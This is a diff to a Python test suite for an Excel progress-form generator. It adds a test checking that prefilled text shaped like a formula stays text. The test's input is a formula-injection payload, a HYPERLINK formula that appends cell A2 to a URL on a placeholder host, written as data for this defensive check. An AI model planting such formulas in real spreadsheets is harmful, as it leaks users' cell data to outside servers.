@@ -66,3 +66,18 @@ def test_plan_forms_for_lead_units_and_prefill_progress_forms(tmp_path: Path) ->
     assert form.parent == data / "forms" / "2026Q3"
     ws = load_form(form)[PROGRESS_SHEET]
     assert ws.cell(2, 4).value == "完成第3阶段成果验收" and ws.cell(2, 5).value == 70
+
+
+def test_prefilled_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
+    import pandas as pd
+
+    from jj123lib.forms import build_progress_form
+
+    hostile = '=HYPERLINK("http://example.invalid/?"&A2,"点击查看")'
+    plan = pd.DataFrame([{"task_id": "N02", "quarter": "2026Q3", "milestone": hostile, "planned_pct": 70.0}])
+    path = tmp_path / "form.xlsx"
+    build_progress_form("商务局", "2026Q3", TASKS, plan).save(path)
+    ws = load_form(path)[PROGRESS_SHEET]
+    cell = ws.cell(2, PROGRESS_COLUMNS.index("本季度节点目标") + 1)
+    assert cell.value == hostile and cell.data_type == "s"
+    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
